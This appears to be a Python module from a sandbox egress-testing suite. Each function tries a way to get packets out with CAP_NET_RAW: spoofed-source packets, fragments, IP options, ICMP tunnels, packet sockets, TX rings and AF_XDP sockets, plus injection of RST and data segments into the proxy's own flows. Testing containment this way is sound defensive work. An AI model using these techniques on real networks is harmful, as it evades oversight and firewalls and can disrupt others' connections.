# SPDX-License-Identifier: MIT
"""Ways out with CAP_NET_RAW: raw sockets, packet sockets, and having the kernel answer for oneself."""
import ctypes
import mmap
import random
import socket
import struct

from agent import LIBC
from field import BOUND, HOLES, IP_NODEFRAG, RAW, attack, guesses, marked, trying
from packet import ACK, ETHERTYPE, FIN, ICMP, PSH, RST, SYN, address, extension, icmp, ip, tcp, udp

SOL_PACKET, PACKET_VERSION, PACKET_TX_RING, PACKET_QDISC_BYPASS = 263, 10, 13, 20
IPV6_UNICAST_HOPS, IPV6_MULTICAST_HOPS, IPV6_MULTICAST_IF = 16, 18, 17
ETH_P_ALL, ETH_P_ARP, ETH_P_8021Q, ETH_P_EAPOL, ETH_P_LLDP, ETH_P_TEST = 3, 0x0806, 0x8100, 0x888E, 0x88CC, 0x88B5
# IGMP, IPIP, DCCP, 6in4, RSVP, GRE, ESP, AH, OSPF, PIM, IPComp, VRRP, L2TP, SCTP, UDP-Lite, MPLS, for experiments
PROTOCOLS = (2, 4, 33, 41, 46, 47, 50, 51, 89, 103, 108, 112, 115, 132, 136, 137, 253)
NODEFRAG = (socket.IPPROTO_IP, IP_NODEFRAG, 1)
AF_XDP, SOL_XDP, XDP_COPY = 44, 283, 2


def segments(a, dst=None, **more):
    """Of no flow, with every set of flags that conntrack has an opinion about."""
    dst = dst or a.evil
    for flags in (SYN, RST | ACK, RST, FIN, FIN | ACK, 0, 63, PSH | ACK, SYN | ACK, SYN | FIN):
        yield tcp(a.me, dst, flags, a.tag, sport=a.port(), **more)


@attack("raw TCP segments: SYN, RST, FIN, none, all, with data")
def raw_segments(a):
    for port in (443, 80):
        for segment in segments(a, dport=port):
            a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, segment))
            a.send_protocol(socket.IPPROTO_TCP, segment)
    for segment in segments(a, a.origin, dport=80):
        a.send_raw(ip(a.me, a.origin, socket.IPPROTO_TCP, segment), a.origin)


@attack("raw TCP segments with somebody's mark")
def raw_marked(a):
    for mark in a.marks + guesses():
        for segment in segments(a):
            a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, segment), options=[marked(mark), BOUND])


@attack("raw TCP segments: cut, of no port, with a wrong checksum or a hop limit of 1")
def raw_damaged(a):
    whole = tcp(a.me, a.evil, SYN, a.tag, sport=a.port())
    a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, whole[:4] + a.tag[:8]))
    a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, tcp(a.me, a.evil, SYN, a.tag, sport=a.port(), damage=1)))
    a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, whole, ttl=1))
    a.send_raw(ip(a.me, a.evil, socket.IPPROTO_TCP, tcp(a.me, a.evil, PSH | ACK, a.tag, sport=0, dport=0)))
    a.send_raw(ip(a.me, a.evil, socket.IPPROTO_UDP, udp(a.me, a.evil, a.tag, sport=0, dport=0), ttl=1))


@attack("raw packets from an address that is not ours")
def raw_spoofed(a):
    for src in (a.raw, a.gateway, "127.0.0.1" if a.family == 4 else "::1"):
        a.send_raw(ip(src, a.evil, socket.IPPROTO_UDP, udp(src, a.evil, a.tag)))
        a.send_raw(ip(src, a.evil, socket.IPPROTO_TCP, tcp(src, a.evil, SYN, a.tag)))
        a.send_raw(ip(src, a.evil, socket.IPPROTO_TCP, tcp(src, a.evil, RST, a.tag)), options=[BOUND])


@attack("a raw SYN that joins an MPTCP connection")
def raw_join(a):
    join = b"\x1e\x0c\x10\x01" + b"\x12\x34\x56\x78" + b"\x9a\xbc\xde\xf0"
    for dst in (a.evil, a.origin):
        segment = tcp(a.me, dst, SYN, sport=a.port(), options=join)
        a.send_raw(ip(a.me, dst, socket.IPPROTO_TCP, segment), dst)
        a.send_raw(ip(a.me, dst, socket.IPPROTO_TCP, segment), dst, options=[BOUND])


@attack("other protocols: SCTP, GRE, DCCP, UDP-Lite, ESP, IP in IP and more")
def raw_protocols(a):
    for protocol in PROTOCOLS:
        body = struct.pack("!HHHH", a.port(), 443, 8 + len(a.tag), 0) + a.tag
        a.send_protocol(protocol, body)
        a.send_raw(ip(a.me, a.evil, protocol, body))


@attack("IP options and extension headers")
def raw_options(a):
    datagram = udp(a.me, a.evil, a.tag)
    if a.family == 4:
        there = address(a.evil)
        for options in (b"\x83\x07\x04" + there, b"\x89\x07\x04" + there, b"\x07\x07\x04\0\0\0\0", b"\x94\x04\0\0",
                        b"\x44\x08\x05\0\0\0\0\0", b"\x99\x04\xaa\xaa"):
            a.send_raw(ip(a.me, a.evil, socket.IPPROTO_UDP, datagram, options=options))
            a.send_raw(ip(a.me, a.gateway, socket.IPPROTO_UDP, udp(a.me, a.gateway, a.tag), options=options), a.gateway)
        return
    chain = extension(60, 0) + extension(43, 60) + extension(17, 43, b"\x04\0\0\0\0\0" + address(a.gateway)) + datagram
    a.send_raw(ip(a.me, a.evil, 0, chain))
    for kind in (0, 43, 60, 135, 139, 140):
        a.send_raw(ip(a.me, a.evil, kind, extension(17, kind) + datagram))
        a.send_raw(ip(a.me, a.evil, kind, extension(6, kind) + tcp(a.me, a.evil, SYN, a.tag)))
    a.send_raw(ip(a.me, a.evil, 59, a.tag))  # no next header
    a.send_raw(ip(a.me, a.evil, 0, extension(58, 0) + icmp(a.me, a.evil, 128, payload=a.tag)))


@attack("fragments: first, later, overlapping, without what comes before")
def raw_fragments(a):
    data = udp(a.me, a.evil, a.tag * 20)
    data += bytes(-len(data) % 8)
    if a.family == 4:
        for protocol in (socket.IPPROTO_UDP, socket.IPPROTO_TCP, 47):
            for field, part in ((0x2000, data[:64]), (8, data[64:]), (0x2000 | 4, data[32:96]), (0x2001, data[:64])):
                a.send_raw(ip(a.me, a.evil, protocol, part, fragment=field), options=[NODEFRAG])
                a.send_raw(ip(a.me, a.evil, protocol, part, fragment=field, ident=0x4343))
        return
    for protocol in (socket.IPPROTO_UDP, socket.IPPROTO_TCP, 58):
        for offset, more, part in ((0, 1, data[:64]), (64, 0, data[64:]), (32, 1, data[32:96]), (8, 0, data[:64]),
                                   (0, 0, data[:64])):
            head = struct.pack("!HI", offset | more, random.getrandbits(32))
            a.send_raw(ip(a.me, a.evil, 44, extension(protocol, 44, head) + part))


@attack("raw ICMP: echo, timestamp, errors, redirects")
def raw_icmp(a):
    for kind in (8, 13, 3, 5, 11, 12, 42) if a.family == 4 else (128, 1, 2, 3, 4, 137, 139, 160):
        body = icmp(a.me, a.evil, kind, payload=a.tag)
        a.send_protocol(ICMP[a.family], body)
        a.send_raw(ip(a.me, a.evil, ICMP[a.family], body))


@attack("an ICMP error about a flow of the proxy's", control=False, breaks=True)
def icmp_error(a):
    sport, seq, ack = a.flow
    inner = ip(a.raw, a.me, socket.IPPROTO_TCP, tcp(a.raw, a.me, ACK, a.tag, sport=7000, dport=sport, seq=ack, ack=seq))
    kind = 3 if a.family == 4 else 1
    body = icmp(a.me, a.raw, kind, 1, bytes(4), inner)
    a.send_raw(ip(a.me, a.raw, ICMP[a.family], body), a.raw)
    for src, dst in ((a.me, a.evil), (a.raw, a.evil)):
        a.send_raw(ip(src, dst, ICMP[a.family], icmp(src, dst, kind, 1, bytes(4), inner)), dst)


@attack("a raw segment into a flow of the proxy's", control=False, breaks=True)
def into_flow(a):
    sport, seq, ack = a.flow
    for flags in (PSH | ACK, RST | ACK, SYN):
        segment = tcp(a.me, a.raw, flags, a.tag, sport=sport, dport=7000, seq=seq + 100000, ack=ack)
        for options in ((), (BOUND,), (marked(a.marks[0]),)):
            a.send_raw(ip(a.me, a.raw, socket.IPPROTO_TCP, segment), a.raw, options)


def discovery(a, kinds, hops, destinations):
    index = socket.if_nametoindex("eth0")
    with a.socket(socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        for option in (IPV6_UNICAST_HOPS, IPV6_MULTICAST_HOPS):
            sock.setsockopt(socket.IPPROTO_IPV6, option, hops)
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_MULTICAST_IF, index)
        for kind in kinds:
            for dst in destinations:
                with trying():
                    sock.sendto(struct.pack("!BBHI", kind, 0, 0, 0) + a.tag * 20, (dst, 0, 0, index))


@attack("a tunnel in neighbour discovery", families=(6,))
def neighbour(a):
    where = (a.gateway, a.gateway_link, a.evil, "ff02::1", "ff02::2", "ff02::1:ff00:1")
    discovery(a, (133, 134, 135, 136, 137), 255, where)
    discovery(a, (133, 135, 136), 1, where)


@attack("a tunnel in multicast listener reports", families=(6,))
def listener_reports(a):
    discovery(a, (130, 131, 132, 143), 1, (a.gateway, a.gateway_link, a.evil, "ff02::16", "ff02::1", "ff02::2"))


@attack("an answer of the kernel's to a question that never came from outside")
def reflection(a):
    """The packets claim to come from far away and go to ourselves: the answers would leave."""
    for dst in [a.me, "127.0.0.1" if a.family == 4 else "::1"]:
        a.send_raw(ip(a.evil, dst, ICMP[a.family], icmp(a.evil, dst, 8 if a.family == 4 else 128, payload=a.tag)), dst)
        a.send_raw(ip(a.evil, dst, socket.IPPROTO_UDP, udp(a.evil, dst, a.tag, 443, 9)), dst)
        for flags in (SYN, PSH | ACK):
            for port in (9, 15001):
                segment = tcp(a.evil, dst, flags, a.tag, sport=443, dport=port)
                a.send_raw(ip(a.evil, dst, socket.IPPROTO_TCP, segment), dst)
    packets = frames_on(a, "lo")
    body = icmp(a.evil, a.me, 8 if a.family == 4 else 128, payload=a.tag)
    packets(bytes(12) + struct.pack("!H", ETHERTYPE[a.family]) + ip(a.evil, a.me, ICMP[a.family], body))
    packets(bytes(12) + struct.pack("!H", ETHERTYPE[a.family]) + ip(a.raw, a.evil, socket.IPPROTO_UDP,
                                                                    udp(a.raw, a.evil, a.tag)))


def frames_on(_, device, bypass=False, mark=None):
    """A function that sends whole frames."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    if bypass:
        sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    if mark is not None:
        sock.setsockopt(*marked(mark))

    def send(frame, protocol=None):
        with trying():
            sock.sendto(frame, (device, protocol if protocol is not None else int.from_bytes(frame[12:14], "big")))

    return send


def datagram_frame(a):
    return a.gateway_mac + a.mac + struct.pack("!H", ETHERTYPE[a.family]) + ip(
        a.me, a.evil, socket.IPPROTO_UDP, udp(a.me, a.evil, a.tag, sport=a.port()))


@attack("packet sockets: past the queue, under other protocols' names, with somebody's mark")
def packet_socket(a):
    for bypass in (False, True):
        for mark in (None, *a.marks, *guesses()):
            send = frames_on(a, "eth0", bypass, mark)
            for protocol in (None, 0, ETH_P_ALL, ETH_P_ARP, ETH_P_EAPOL):
                send(datagram_frame(a), protocol)
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as sock, trying():
        sock.sendto(datagram_frame(a)[14:], ("eth0", ETHERTYPE[a.family], 0, 0, a.gateway_mac))


@attack("packet sockets: ARP, VLAN tags, EAPOL, LLDP, unknown types", families=(4,))
def packet_types(a):
    send = frames_on(a, "eth0")
    for kind in (ETH_P_ARP, ETH_P_8021Q, 0x88A8, ETH_P_EAPOL, ETH_P_LLDP, ETH_P_TEST, 0x8863, 0x8847, 60):
        for dst in (a.gateway_mac, b"\xff" * 6, bytes.fromhex("0180c200000e")):
            send(dst + a.mac + struct.pack("!H", kind) + a.tag.ljust(46, b"."))
    tagged = datagram_frame(a)
    send(tagged[:12] + b"\x81\0\0\x01" + tagged[12:])


@attack("packet sockets: a ring of frames", families=(4,))
def packet_ring(a):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.setsockopt(SOL_PACKET, PACKET_VERSION, 1)  # TPACKET_V2
        sock.setsockopt(SOL_PACKET, PACKET_TX_RING, struct.pack("4I", 4096, 1, 2048, 2))
        with mmap.mmap(sock.fileno(), 4096) as ring, trying():
            frame = datagram_frame(a)
            ring[32:32 + len(frame)] = frame
            ring[0:8] = struct.pack("II", 1, len(frame))  # TP_STATUS_SEND_REQUEST
            sock.bind(("eth0", ETHERTYPE[4]))
            sock.send(b"")


@attack("an XDP socket", RAW, among=HOLES)
def xdp_socket(a):
    """In copy mode it needs no program, and its frames pass no hook."""
    with socket.socket(AF_XDP, socket.SOCK_RAW, 0) as sock, mmap.mmap(-1, 1 << 14) as area:
        start = ctypes.addressof(ctypes.c_char.from_buffer(area))
        sock.setsockopt(SOL_XDP, 4, struct.pack("QQIIII", start, 1 << 14, 2048, 0, 0, 0))  # XDP_UMEM_REG
        for ring in (5, 6, 3):  # fill, completion, transmission
            sock.setsockopt(SOL_XDP, ring, struct.pack("I", 4))
        offsets = struct.unpack("16Q", sock.getsockopt(SOL_XDP, 1, 128))
        producer, _, descriptors, _ = offsets[4:8]
        with mmap.mmap(sock.fileno(), descriptors + 64, offset=0x80000000) as ring:
            where = struct.pack("HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex("eth0"), 0, 0)
            assert LIBC.bind(sock.fileno(), where, len(where)) == 0, "bind"
            frame = datagram_frame(a)
            area[:len(frame)] = frame
            ring[descriptors:descriptors + 16] = struct.pack("QII", 0, len(frame), 0)
            ring[producer:producer + 4] = struct.pack("I", 1)
            LIBC.sendto(sock.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0)
